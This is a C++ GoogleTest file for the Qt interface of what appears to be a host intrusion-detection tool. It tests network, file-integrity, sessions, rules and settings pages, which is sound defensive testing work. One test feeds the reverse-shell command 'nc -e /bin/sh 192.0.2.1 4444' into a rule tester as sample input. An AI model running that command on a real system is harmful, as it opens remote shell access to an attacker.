// The later pages as a person uses them: by keys and buttons, intents come out.
#include <gtest/gtest.h>

#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QDialog>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>
#include <QToolButton>
#include <QTreeView>
#include <algorithm>

#include "tests/ui/FakePages.h"
#include "tests/ui/FakeValues.h"
#include "tests/ui/Picture.h"
#include "ui/MainWindow.h"
#include "ui/integrity/FilesPage.h"
#include "ui/network/ConnectionTableModel.h"
#include "ui/network/NetworkPage.h"
#include "ui/processes/ProcessPage.h"
#include "ui/rules/RuleTestBox.h"
#include "ui/rules/RulesPage.h"
#include "ui/sessions/SessionTableModel.h"
#include "ui/sessions/SessionsPage.h"
#include "ui/settings/SettingEditor.h"
#include "ui/settings/SettingPanel.h"
#include "ui/settings/SettingsPage.h"
#include "ui/trust/TrustEntryDialog.h"
#include "ui/trust/TrustList.h"
#include "ui/widgets/StatePanel.h"
#include "ui/widgets/TextLabel.h"

namespace {

class Pages : public testing::Test {
  protected:
    void SetUp() override {
        window.show();
        window.setHealth(fake::health());
        window.setReachable(true);
        window.setProcesses(fake::processes());
        window.setAlerts(fake::alerts());
        window.page<ui::NetworkPage>()->setConnections(fake::connections());
        window.page<ui::NetworkPage>()->setBlocks(fake::blocks());
        window.page<ui::FilesPage>()->setStatus(fake::integrity());
        window.page<ui::FilesPage>()->setDrifts(fake::drifts());
        window.page<ui::SessionsPage>()->setSessions(fake::sessions());
        window.page<ui::RulesPage>()->setRules(fake::rules());
        window.page<ui::SettingsPage>()->setSettings(fake::settings());
        window.page<ui::SettingsPage>()->setTrust(fake::trust());
        (void)QTest::qWaitForWindowActive(&window);
    }
    void open(const char* page) {
        window.showPage(QLatin1String(page));
        QApplication::processEvents();
    }
    template <typename Button>
    void click(const QWidget* in, const QString& name) {
        for (Button* each : in->findChildren<Button*>()) {
            if (!each->isVisible() ||
                (each->text().trimmed() != name && each->accessibleName() != name))
                continue;
            QTest::mouseClick(each, Qt::LeftButton);
            QApplication::processEvents();
            return;
        }
        FAIL() << "no button " << name.toStdString();
    }
    QDialog* dialog() const {
        for (QDialog* each : window.findChildren<QDialog*>()) {
            if (each->isVisible())
                return each;
        }
        return nullptr;
    }
    QString textsOf(const QWidget* in) const {
        QString texts;
        for (const ui::TextLabel* label : in->findChildren<ui::TextLabel*>())
            if (label->isVisible())
                texts += label->fullText() + QLatin1Char('\n');
        return texts;
    }
    bool stateShown(ui::StatePanel::Kind kind) const {
        for (const ui::StatePanel* panel : window.findChildren<ui::StatePanel*>()) {
            if (panel->isVisible() && panel->kind() == kind)
                return true;
        }
        return false;
    }
    void type(const char* key, const char* text) {
        window.page<ui::SettingsPage>()
            ->panel(QLatin1String(key))
            ->editor()
            ->findChild<QLineEdit*>()
            ->setText(QLatin1String(text));
    }

    ui::MainWindow window;
};

TEST_F(Pages, EveryOneIsAKeyAway) {
    for (const auto& [code, name] : {std::pair{Qt::Key_4, "network"},
                                     {Qt::Key_5, "files"},
                                     {Qt::Key_6, "sessions"},
                                     {Qt::Key_7, "rules"},
                                     {Qt::Key_8, "settings"}}) {
        QTest::keyClick(&window, code, Qt::ControlModifier);
        EXPECT_EQ(window.currentPage(), QLatin1String(name));
    }
}

TEST_F(Pages, NothingOldIsShownAsNowWhenTheHelperIsGone) {
    window.setReachable(false, QStringLiteral("It is stopped."));
    for (const char* page : {"network", "files", "sessions", "rules", "settings"}) {
        open(page);
        EXPECT_TRUE(stateShown(ui::StatePanel::Kind::Problem)) << page;
    }
    window.setReachable(true);
    EXPECT_FALSE(stateShown(ui::StatePanel::Kind::Problem));
    for (const char* page : {"network", "files", "sessions", "rules", "settings"}) {
        window.setPageProblem(QLatin1String(page), QStringLiteral("Denied."), true);
        open(page);
        EXPECT_TRUE(stateShown(ui::StatePanel::Kind::NoPermission)) << page;
    }
}

TEST_F(Pages, AConnectionIsDroppedAfterTheQuestion) {
    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::dropRequested);
    open("network");
    window.page<ui::NetworkPage>()->select(105);
    window.page<ui::NetworkPage>()->drop();
    ASSERT_NE(dialog(), nullptr);
    EXPECT_TRUE(textsOf(dialog()).contains(QStringLiteral("203.0.113.7:4444")));
    click<QPushButton>(dialog(), QStringLiteral("Cancel"));
    EXPECT_EQ(spy.size(), 0);
    window.page<ui::NetworkPage>()->drop();
    click<QPushButton>(dialog(), QStringLiteral("Drop"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toULongLong(), 105U);
}

TEST_F(Pages, AnAddressIsBlockedOnceHoweverManyConnectionsItHas) {
    model::ConnectionRow twin = fake::connections().changed.front();
    twin.id = 900;
    window.page<ui::NetworkPage>()->setConnections({0, false, {twin}, {}});
    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::blockRequested);
    open("network");
    auto* view = window.page<ui::NetworkPage>()->findChild<QTreeView*>();
    view->selectAll();
    window.page<ui::NetworkPage>()->block(3600);
    click<QPushButton>(dialog(), QStringLiteral("Block"));
    QStringList blocked;
    for (const QVariantList& each : spy) {
        blocked << each.front().toString();
        EXPECT_EQ(each.at(1).toUInt(), 3600U);
    }
    EXPECT_EQ(blocked.count(QStringLiteral("198.51.100.24")), 1);
    EXPECT_EQ(blocked.size(), 6) << "a listener has no address to block";
}

TEST_F(Pages, AListenerCanNeitherBeDroppedNorBlocked) {
    open("network");
    window.page<ui::NetworkPage>()->select(106);
    window.page<ui::NetworkPage>()->drop();
    window.page<ui::NetworkPage>()->block(0);
    EXPECT_EQ(dialog(), nullptr);
}

TEST_F(Pages, ABlockIsTakenBackWhereItIsShown) {
    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::unblockRequested);
    open("network");
    click<QToolButton>(window.page<ui::NetworkPage>(), QStringLiteral("Unblock 203.0.113.7"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toString(), QStringLiteral("203.0.113.7"));
    window.page<ui::NetworkPage>()->setBlocks({});
    EXPECT_FALSE(textsOf(window.page<ui::NetworkPage>()).contains(QStringLiteral("Blocked")));
}

TEST_F(Pages, AConnectionLeadsToItsProcess) {
    open("network");
    window.page<ui::NetworkPage>()->select(105);
    Q_EMIT window.page<ui::NetworkPage>()->processWanted({4242, 4242 * 37});
    EXPECT_EQ(window.currentPage(), QStringLiteral("processes"));
}

TEST_F(Pages, ChosenConnectionsStayChosenWhileOthersComeAndGo) {
    open("network");
    window.page<ui::NetworkPage>()->select(105);
    model::ConnectionChanges changes;
    changes.gone = {100, 101};
    model::ConnectionRow fresh = fake::connections().changed.front();
    fresh.id = 500;
    changes.changed = {fresh};
    window.page<ui::NetworkPage>()->setConnections(changes);
    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::dropRequested);
    window.page<ui::NetworkPage>()->drop();
    click<QPushButton>(dialog(), QStringLiteral("Drop"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toULongLong(), 105U);
}

TEST_F(Pages, TrustFromAConnectionStartsWithTheNarrowestEntry) {
    QSignalSpy spy(&window, &ui::MainWindow::trustRequested);
    open("network");
    window.page<ui::NetworkPage>()->select(103);
    click<QToolButton>(window.page<ui::NetworkPage>(), QStringLiteral("Trust…"));
    ASSERT_NE(dialog(), nullptr);
    QSignalSpy asked(&window, &ui::MainWindow::trustPreviewWanted);
    ASSERT_TRUE(asked.wait());
    ui::TrustPreview preview;
    preview.alerts = 14;
    window.setTrustPreview(asked.front().at(1).toULongLong() + 1, preview);
    EXPECT_FALSE(textsOf(dialog()).contains(QStringLiteral("14"))) << "another dialog's answer";
    window.setTrustPreview(asked.front().at(1).toULongLong(), preview);
    EXPECT_TRUE(textsOf(dialog()).contains(QStringLiteral("silenced 14 of your alerts")));
    click<QPushButton>(dialog(), QStringLiteral("Trust"));
    ASSERT_EQ(spy.size(), 1);
    const auto entry = spy.front().front().value<model::TrustEntry>();
    EXPECT_EQ(entry.match.at("domain"), "imap.example.org");
    EXPECT_FALSE(entry.untilUs);
}

TEST_F(Pages, ATrustEntryIsCheckedWhileItIsTyped) {
    open("settings");
    Q_EMIT window.page<ui::SettingsPage>()->trustWanted({{{"path", "/usr/bin/bash"}}, {}, {}, {}});
    auto* made = window.findChild<ui::TrustEntryDialog*>();
    ASSERT_NE(made, nullptr);
    const auto trust = [made] {
        for (QPushButton* each : made->findChildren<QPushButton*>())
            if (each->text() == QLatin1String("Trust"))
                return each->isEnabled();
        return false;
    };
    EXPECT_TRUE(trust());
    QLineEdit* value = nullptr;
    for (QLineEdit* each : made->findChildren<QLineEdit*>())
        if (each->text() == QLatin1String("/usr/bin/bash"))
            value = each;
    ASSERT_NE(value, nullptr);
    value->setText(QStringLiteral("usr/bin/bash"));
    EXPECT_FALSE(trust());
    EXPECT_TRUE(textsOf(made).contains(QStringLiteral("needs another value")));
    value->setText(QStringLiteral("/usr/bin/bash"));
    click<QToolButton>(made, QStringLiteral("+ Another condition"));
    EXPECT_FALSE(trust()) << "the new condition is empty";
    click<QToolButton>(made, QStringLiteral("Remove the condition"));
    EXPECT_FALSE(trust()) << "the first one was removed";
}

TEST_F(Pages, TheNewestChangeIsChosenAndAcceptedWithoutAnotherQuestion) {
    auto* page = window.page<ui::FilesPage>();
    QSignalSpy spy(page, &ui::FilesPage::acceptRequested);
    open("files");
    page->accept();
    EXPECT_EQ(dialog(), nullptr);
    EXPECT_EQ(spy.size(), 1);
}

TEST_F(Pages, ChangesAreAcceptedWithTheHashesThatWereShown) {
    auto* page = window.page<ui::FilesPage>();
    QSignalSpy spy(page, &ui::FilesPage::acceptRequested);
    open("files");
    page->select("/etc/ssh/sshd_config");
    EXPECT_TRUE(textsOf(page).contains(QStringLiteral("root may now log in")));
    page->findChild<QTreeView*>()->selectAll();
    page->accept();
    auto again = fake::drifts();
    again[1].now.hash[0] = 9;  // changed once more behind the question
    page->setDrifts(again);
    click<QPushButton>(dialog(), QStringLiteral("Accept"));
    ASSERT_EQ(spy.size(), static_cast<qsizetype>(again.size()));
    const auto config = std::find_if(spy.begin(), spy.end(), [](const auto& row) {
        return row.at(0).toString() == QLatin1String("/etc/ssh/sshd_config");
    });
    ASSERT_NE(config, spy.end());
    EXPECT_TRUE(config->at(1).toString().startsWith(QStringLiteral("07")));
}

TEST_F(Pages, AFolderAndEverythingAreAcceptedAfterTheQuestion) {
    auto* page = window.page<ui::FilesPage>();
    QSignalSpy folder(page, &ui::FilesPage::acceptFolderRequested);
    QSignalSpy all(page, &ui::FilesPage::acceptAllRequested);
    open("files");
    page->setDrifts({});
    page->acceptFolder();
    EXPECT_EQ(dialog(), nullptr) << "no folder without a chosen file";
    page->setDrifts(fake::drifts());
    page->select("/etc/sudoers.d/deploy");
    page->acceptFolder();
    click<QPushButton>(dialog(), QStringLiteral("Accept folder"));
    ASSERT_EQ(folder.size(), 1);
    EXPECT_EQ(folder.front().front().toString(), QStringLiteral("/etc/sudoers.d"));
    page->acceptAll();
    click<QPushButton>(dialog(), QStringLiteral("Cancel"));
    EXPECT_EQ(all.size(), 0);
    page->acceptAll();
    click<QPushButton>(dialog(), QStringLiteral("Accept all"));
    EXPECT_EQ(all.size(), 1);
}

TEST_F(Pages, ACheckThatRunsCanBeStopped) {
    auto* page = window.page<ui::FilesPage>();
    QSignalSpy begun(page, &ui::FilesPage::verifyRequested);
    QSignalSpy stopped(page, &ui::FilesPage::cancelRequested);
    open("files");
    click<QPushButton>(page, QStringLiteral("Check now"));
    EXPECT_EQ(begun.size(), 1);
    model::IntegrityStatus status = fake::integrity();
    status.state = "verifying";
    status.doneFiles = status.files / 2;
    page->setStatus(status);
    EXPECT_TRUE(textsOf(page).contains(QStringLiteral("50 % done")));
    click<QPushButton>(page, QStringLiteral("Stop the check"));
    EXPECT_EQ(stopped.size(), 1);
}

TEST_F(Pages, SessionsOfOthersAreAskedForAndRefusedPolitely) {
    auto* page = window.page<ui::SessionsPage>();
    QSignalSpy spy(page, &ui::SessionsPage::everybodysWanted);
    open("sessions");
    click<QToolButton>(page, QStringLiteral("Everybody's"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_TRUE(spy.front().front().toBool());
    page->showOwnOnly();
    EXPECT_EQ(spy.size(), 1) << "that was not the person's wish";
    click<QToolButton>(page, QStringLiteral("Everybody's"));
    EXPECT_EQ(spy.size(), 2);
}

TEST_F(Pages, ARefusedLoginLeadsToItsAlert) {
    model::Alert guess = fake::simpleAlert(900, 5);
    guess.finding.ruleId = "brute-force";
    window.upsertAlert(guess);
    auto* page = window.page<ui::SessionsPage>();
    open("sessions");
    EXPECT_FALSE(textsOf(page).contains(QStringLiteral("None was raised")));
    QSignalSpy spy(page, &ui::SessionsPage::alertWanted);
    for (QAbstractButton* each : page->findChildren<QAbstractButton*>())
        if (each->isVisible() && each->inherits("ui::AlertLine"))
            each->click();
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toString(), QStringLiteral("id-900"));
    EXPECT_EQ(window.currentPage(), QStringLiteral("alerts"));
}

TEST_F(Pages, ARuleIsSwitchedByKeyAndShownOnlyWhenInForce) {
    QSignalSpy spy(window.page<ui::RulesPage>(), &ui::RulesPage::switchRequested);
    open("rules");
    window.page<ui::RulesPage>()->select(QStringLiteral("cryptominer"));
    auto* box = window.page<ui::RulesPage>()->findChild<QCheckBox*>();
    ASSERT_NE(box, nullptr);
    QTest::mouseClick(box, Qt::LeftButton, {}, QPoint(8, box->height() / 2));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().at(0).toString(), QStringLiteral("cryptominer"));
    EXPECT_FALSE(spy.front().at(1).toBool());
    EXPECT_TRUE(box->isChecked()) << "nothing has changed yet";
    auto rules = fake::rules();
    rules[2].enabled = false;
    window.page<ui::RulesPage>()->setRules(rules);
    EXPECT_FALSE(box->isChecked());
}

TEST_F(Pages, ARuleThatWouldKillIsAskedAboutFirst) {
    QSignalSpy spy(window.page<ui::RulesPage>(), &ui::RulesPage::responseRequested);
    open("rules");
    window.page<ui::RulesPage>()->select(QStringLiteral("unknown-process"));
    auto* response = window.page<ui::RulesPage>()->findChild<QComboBox*>();
    const auto choose = [response](const char* word) {
        const int at = response->findData(QLatin1String(word));
        response->setCurrentIndex(at);
        Q_EMIT response->activated(at);
        QApplication::processEvents();
    };
    choose("suspend");
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(response->currentData().toString(), QStringLiteral("notify"));
    choose("kill");
    EXPECT_EQ(spy.size(), 1);
    ASSERT_NE(dialog(), nullptr);
    click<QPushButton>(dialog(), QStringLiteral("Kill from now on"));
    ASSERT_EQ(spy.size(), 2);
    EXPECT_EQ(spy.at(1).at(1).toString(), QStringLiteral("kill"));
}

TEST_F(Pages, ACommandLineIsTestedAndLeadsToTheRule) {
    qRegisterMetaType<ui::RuleTest>();
    QSignalSpy spy(window.page<ui::RulesPage>(), &ui::RulesPage::testRequested);
    open("rules");
    ui::RuleTestBox* box = window.page<ui::RulesPage>()->testBox();
    box->test();
    EXPECT_EQ(spy.size(), 0) << "nothing to test yet";
    box->setCommandLine(QStringLiteral("nc -e /bin/sh 192.0.2.1 4444"));
    box->test();
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().value<ui::RuleTest>().commandLine,
              QStringLiteral("nc -e /bin/sh 192.0.2.1 4444"));
    window.page<ui::RulesPage>()->setTestResult({{QStringLiteral("second-root-account")}, {}});
    window.page<ui::RulesPage>()->setKind(1);  // where it is not in sight
    QApplication::processEvents();
    click<QToolButton>(box, QStringLiteral("Show the rule Second account with the number 0"));
    EXPECT_TRUE(
        textsOf(window.page<ui::RulesPage>()).contains(QStringLiteral("An account with all")));
    window.page<ui::RulesPage>()->setTestResult({{}, QStringLiteral("<b>not installed</b>\n")});
    EXPECT_TRUE(textsOf(box).contains(QStringLiteral("<b>not installed</b>\\n")));
}

TEST_F(Pages, ASettingIsSavedOnlyWhenItIsAllowed) {
    QSignalSpy spy(window.page<ui::SettingsPage>(), &ui::SettingsPage::saveRequested);
    open("settings");
    window.page<ui::SettingsPage>()->showSection(QStringLiteral("resources"));
    QApplication::processEvents();
    ui::SettingPanel* panel =
        window.page<ui::SettingsPage>()->panel(QStringLiteral("resources.cpu_percent"));
    EXPECT_FALSE(panel->isChanged());
    type("resources.cpu_percent", "101");
    panel->save();
    EXPECT_EQ(spy.size(), 0);
    EXPECT_TRUE(textsOf(panel).contains(QStringLiteral("Allowed: a whole number, 1 to 100 %")));
    type("resources.cpu_percent", "70");
    click<QToolButton>(panel, QStringLiteral("Save Processor limit"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front(), (QVariantList{"resources.cpu_percent", "70"}));
    EXPECT_TRUE(panel->isChanged()) << "it is not in force yet";
    QJsonObject now = fake::settings();
    now.insert("resources", QJsonObject{{"cpu_percent", 70}});
    window.page<ui::SettingsPage>()->setSettings(now);
    EXPECT_FALSE(panel->isChanged());
}

TEST_F(Pages, WhatOneTypesIsNotOverwrittenByWhatArrives) {
    open("settings");
    ui::SettingPanel* panel =
        window.page<ui::SettingsPage>()->panel(QStringLiteral("ask.timeout_s"));
    type("ask.timeout_s", "45");
    QJsonObject now = fake::settings();
    now.insert("ask", QJsonObject{{"timeout_s", 60}});
    window.page<ui::SettingsPage>()->setSettings(now);
    EXPECT_EQ(panel->editor()->value(), QJsonValue(45));
    panel->discard();
    EXPECT_EQ(panel->editor()->value(), QJsonValue(60));
}

TEST_F(Pages, AFileOnlySettingCannotBeEdited) {
    open("settings");
    ui::SettingPanel* panel = window.page<ui::SettingsPage>()->panel(QStringLiteral("mail.server"));
    ASSERT_NE(panel, nullptr);
    EXPECT_EQ(panel->editor()->findChild<QLineEdit*>(), nullptr);
    EXPECT_FALSE(panel->isChanged());
}

TEST_F(Pages, ATrustEntryIsRemovedAfterTheQuestion) {
    QSignalSpy spy(window.page<ui::SettingsPage>(), &ui::SettingsPage::untrustRequested);
    open("settings");
    window.page<ui::SettingsPage>()->showSection(QStringLiteral("trust"));
    window.page<ui::SettingsPage>()->trust()->select("t2");
    window.page<ui::SettingsPage>()->trust()->remove();
    ASSERT_NE(dialog(), nullptr);
    click<QPushButton>(dialog(), QStringLiteral("Remove"));
    ASSERT_EQ(spy.size(), 1);
    EXPECT_EQ(spy.front().front().toString(), QStringLiteral("t2"));
}

}  // namespace
